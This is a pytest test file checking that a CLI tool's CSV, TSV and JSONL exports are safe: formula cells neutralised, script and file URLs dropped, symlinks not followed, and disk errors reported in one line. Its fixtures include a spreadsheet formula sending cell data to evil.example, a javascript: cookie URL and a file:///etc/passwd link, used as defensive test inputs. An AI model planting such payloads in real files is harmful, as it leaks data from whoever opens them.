"""Exports are safe to open: no spreadsheet formulas, no script URLs, no file clobbered through
a symlink, one line (never a traceback) for a path that cannot be written or a full disk."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from irwatch.cli import main
from irwatch.records import Article, Event, EventActor, Period
from irwatch.store import open_store

IRWATCH = [sys.executable, "-m", "irwatch"]
TARGETS = ("USA", "GBR", "FRA")  # three dyads: three happenings, not reports of one
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _event(n: int, evidence: str, source_name: str) -> Event:
    return Event(
        event_id=f"e{n}",
        doc_id=f"d{n}",
        type="ACCUSE",
        mode=None,
        cameo="112",
        quad_class=3,
        score=-2.0,
        source=EventActor(text=source_name, country="IRN", sector="GOV", code="IRNGOV"),
        target=EventActor(text="-them", country=TARGETS[n], sector=None, code=TARGETS[n]),
        date=Period("2019-05-06", "2019-05-06", "day", "on Monday"),
        evidence=evidence,
        sentence=0,
        start_char=0,
        end_char=len(evidence),
        trigger="accused",
    )


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('db') / 'hostile.db'}"
    rows = [
        (HOSTILE, "@SUM(1+1)", "javascript:alert(document.cookie)"),
        ("+1 Iran accused the United States." + " Again." * 2000, "\tTab", "https://ok.example/2"),
        ("\rIran accused the United States again.", "Iran", "file:///etc/passwd"),
    ]
    with open_store(url) as store:
        for n, (evidence, name, link) in enumerate(rows):
            article = Article(id=f"d{n}", title=f"T{n}", body=f"b{n}", url=link, publisher="P")
            store.add(article, [_event(n, evidence, name)])
    return url


def _export(db: str, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, ["export", "--db", db, *args])
    assert not isinstance(result.exception, Exception) or isinstance(
        result.exception, SystemExit
    ), result.exception
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_no_cell_is_a_formula(db: str, fmt: str) -> None:
    status, out, _ = _export(db, "--format", fmt)
    assert status == 0
    sep = "\t" if fmt == "tsv" else ","
    rows = list(csv.DictReader(io.StringIO(out, newline=""), delimiter=sep))
    assert len(rows) == 3
    for row in rows:
        for column, value in row.items():
            if column in ("score", "latitude", "longitude"):
                continue
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, value)
    evidence = {r["evidence"] for r in rows}
    assert "'" + HOSTILE in evidence  # neutralised as OWASP says, the text kept
    assert "'@SUM(1+1)" in {r["source_name"] for r in rows}
    assert {r["score"] for r in rows} == {"-2.0"}  # numbers stay numbers


def test_only_web_urls_are_exported(db: str) -> None:
    status, out, _ = _export(db, "--format", "jsonl")
    urls = sorted(str(json.loads(line)["url"]) for line in out.splitlines())
    assert status == 0 and urls == ["None", "None", "https://ok.example/2"]
    rows = list(csv.DictReader(io.StringIO(_export(db, "--format", "csv")[1], newline="")))
    assert sorted(r["url"] for r in rows) == ["", "", "https://ok.example/2"]


def test_an_existing_file_is_kept_without_force(db: str, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    out.write_text("precious\n")
    status, _, err = _export(db, "--out", str(out))
    assert status == 1 and "--force" in err and len(err.strip().splitlines()) == 1
    assert out.read_text() == "precious\n"
    assert _export(db, "--out", str(out), "--force")[0] == 0
    assert out.read_text().startswith("event_id,")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]  # no temporary left


def test_a_symlink_is_not_followed(db: str, tmp_path: Path) -> None:
    target = tmp_path / "bashrc"
    target.write_text("keep me\n")
    link = tmp_path / "events.csv"
    link.symlink_to(target)
    status, _, err = _export(db, "--out", str(link))
    assert status == 1 and len(err.strip().splitlines()) == 1
    assert _export(db, "--out", str(link), "--force")[0] == 0
    assert target.read_text() == "keep me\n"  # the link was replaced, its target untouched
    assert not link.is_symlink() and link.read_text().startswith("event_id,")


@pytest.mark.parametrize(
    ("where", "words"),
    [
        ("{tmp}", "directory"),
        ("{tmp}/no/such/folder/x.csv", "No such file or directory"),
        ("/proc/irwatch.csv", "cannot write"),
    ],
)
def test_unwritable_paths_are_one_line(db: str, tmp_path: Path, where: str, words: str) -> None:
    status, _, err = _export(db, "--out", where.format(tmp=tmp_path))
    assert status == 1, err
    assert words in err and len(err.strip().splitlines()) == 1 and "Traceback" not in err


def test_a_full_disk_is_one_line_and_leaves_nothing_behind(db: str, tmp_path: Path) -> None:
    """A 4 KiB file system of our own (a mount namespace, as root) fills up part-way."""
    disk = tmp_path / "disk"
    disk.mkdir()
    out = disk / "events.jsonl"
    script = (
        'mount -t tmpfs -o size=4k tmpfs "$1" || exit 99; shift; "$@"; echo "left: $(ls -A "$0")"'
    )
    proc = subprocess.run(
        ["unshare", "-m", "sh", "-c", script, str(disk), str(disk),
         *IRWATCH, "export", "--db", db, "--format", "jsonl", "--out", str(out)],
        capture_output=True,
        text=True,
    )  # fmt: skip
    if proc.returncode == 99 or "unshare:" in proc.stderr:
        pytest.skip("cannot mount a small file system here (needs root)")
    assert proc.stderr.strip().splitlines() == [
        f"Error: [X002] cannot write {out}: No space left on device"
    ]
    assert proc.stdout.strip() == "left:"  # no partial file, no temporary


@pytest.mark.parametrize("command", [["export"], ["events", "--format", "jsonl"]])
def test_a_full_standard_output_is_one_line(db: str, command: list[str]) -> None:
    with open("/dev/full", "w") as full:
        proc = subprocess.run(
            [*IRWATCH, *command, "--db", db], stdout=full, stderr=subprocess.PIPE, text=True
        )
    assert proc.returncode == 1
    assert proc.stderr.strip().splitlines() == ["Error: cannot write: No space left on device"]


def test_parquet_is_never_written_to_a_terminal(db: str) -> None:
    leader, follower = pty.openpty()
    try:
        proc = subprocess.run(
            [*IRWATCH, "export", "--db", db, "--format", "parquet"],
            stdout=follower,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    finally:
        os.close(follower)
        os.close(leader)
    assert proc.returncode == 2
    assert "terminal" in proc.stderr and "Traceback" not in proc.stderr
